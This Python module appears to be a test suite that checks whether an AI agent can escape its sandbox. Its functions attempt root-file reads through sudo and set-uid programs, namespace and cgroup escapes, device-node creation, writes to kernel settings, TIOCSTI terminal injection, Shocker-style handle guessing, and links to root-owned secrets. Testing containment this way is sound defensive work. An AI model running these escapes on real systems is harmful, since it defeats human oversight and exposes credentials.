"""Becoming root, or more than one was."""

import os
import resource
import stat

from agent import *
from attack import after, attack, loot, meanwhile, word


@attack("sudo", "C1", loot("root"))
def _():
    """`sudo` reads a file of root's."""
    print(sudo("cat /root/secret"))


@attack("set-uid-program", "C1", loot("root"))
def _():
    """Each program with a set-user-id bit is tried as root."""
    for top in ("/usr/local", "/opt", "/tmp", HOME):
        for folder, _, names in os.walk(top):
            for name in names:
                path = f"{folder}/{name}"
                if os.lstat(path).st_mode & stat.S_ISUID:
                    print(shell(f"{path} --reuid 0 --clear-groups cat /root/secret"))


@attack("program-with-capabilities", "C1", loot("root"))
def _():
    """A program with file capabilities reads what only root may."""
    print(shell("/usr/local/lib/reader /root/secret"))


@attack("inherited-capabilities", "C1", loot("root"))
def _():
    """What the process was born with is enough for a file of root's."""
    print(open("/root/secret").read())


@attack("user-namespace", "design 5", meanwhile(lambda case: case.differs("user")))
def _():
    """A user namespace in which the agent is root."""
    print(call("unshare", 0x10000000))
    hold()


@attack("mount-namespace", "design 5", meanwhile(lambda case: case.differs("mnt")))
def _():
    """A mount namespace, by way of a user namespace."""
    print(call("unshare", 0x10020000), call("unshare", 0x20000))
    hold()


@attack("mount-namespace-as-root", "design 5", meanwhile(lambda case: case.differs("mnt")))
def _():
    """`sudo unshare --mount`."""
    write(f"{out()}.sh", f"echo $$ >{out()}.hold; until [ -e {out()}.seen ]; do sleep 0.05; done")
    print(sudo(f"timeout 5 unshare --mount bash {out()}.sh"))


@attack("mount-over-policy", "design 5", after(lambda case: case.box.path("/etc/claudebox/mounted").exists()))
def _():
    """A file system mounted over /etc/claudebox, as whoever the agent can be."""
    for become in (shell, sudo):
        become("mount -t tmpfs none /etc/claudebox && touch /etc/claudebox/mounted")


@attack("set-limits", "H2", meanwhile(lambda case: any(case.limit(label) > case.limit(label, case.box.pid) for label in ("Max open files", "Max core file size"))))
def _():
    """A hard limit raised above PID 1's."""
    for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_CORE):
        soft, hard = resource.getrlimit(which)
        try:
            resource.setrlimit(which, (soft, hard + 1000))
        except (ValueError, OSError) as error:
            print(error)
    hold()


@attack("priority", "design 5", meanwhile(lambda case: case.nice() < 0))
def _():
    """A priority above everybody's."""
    try:
        os.setpriority(os.PRIO_PROCESS, 0, -10)
    except OSError as error:
        print(error)
    hold()


@attack("real-time", "design 5", meanwhile(lambda case: case.policy() in (1, 2)))
def _():
    """The real-time scheduler, which starves everybody else."""
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    except OSError as error:
        print(error)
    hold()


@attack("control-group", "design 5", meanwhile(lambda case: case.group() != case.group(case.box.pid)))
def _():
    """Out of the box's control group, and so of its limits."""
    for become in (shell, sudo):
        print(become("mkdir -p /tmp/cg; mount -t cgroup2 none /tmp/cg; "
                     f"for f in /tmp/cg /sys/fs/cgroup; do mkdir $f/x-{nonce()[:8]}; echo {os.getpid()} >$f/x-{nonce()[:8]}/cgroup.procs; done"))
    hold()


@attack("device-node", "design 5", after(lambda case: case.is_device("/tmp/device")))
def _():
    """A device node of the machine's memory."""
    for become in (shell, sudo):
        become("mknod /tmp/device c 1 1")


@attack("kernel-settings", "design 5", word("opened"))
def _():
    """The kernel's settings, opened for writing."""
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/proc/kcore"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            won("opened")
        except OSError as error:
            print(path, error)


@attack("tioc-sti", "design 5", word("typed"))
def _():
    """Characters typed into every terminal that can be opened, for whoever reads it next."""
    import fcntl
    import termios

    for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*"), *glob.glob("/proc/[0-9]*/fd/0")]:
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            if os.isatty(terminal):
                fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
                won("typed")
        except OSError as error:
            print(path, error)


@attack("root-file-by-handle", "design 5", loot("root"))
def _():
    """A file of root's by a guessed handle (open_by_handle_at), as Shocker did."""
    folder, near = os.open(HOME, os.O_RDONLY), os.stat(HOME).st_ino
    guesses = range(max(near - 3000, 1), near + 3000)
    try:
        guesses = [os.stat("/root/secret").st_ino]
    except OSError as error:
        print(error)
    for inode in guesses:
        handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(4, "little") + bytes(4)
        found = call("open_by_handle_at", folder, handle, os.O_RDONLY)
        if found == -1:
            return print("not permitted")
        if found >= 0:
            try:
                print(canaries(os.read(found, 4096)))
            except OSError:
                pass
            os.close(found)


@attack("hard-link-to-root", "C3", loot("root"), phase="restart")
def _():
    """Links in the home folder to files of root's, which a start gives to Claude's user."""
    for target in ("/root/secret", "/etc/claudebox/tokens.yml"):
        for link in (os.symlink, os.link):
            try:
                link(target, f"{CLAUDE}/{link.__name__}-{os.path.basename(target)}")
            except OSError as error:
                print(error)
    os.makedirs(f"{CLAUDE}/claudebox", exist_ok=True)
    try:
        os.symlink("/root", f"{CLAUDE}/claudebox/rooted")
    except OSError as error:
        print(error)
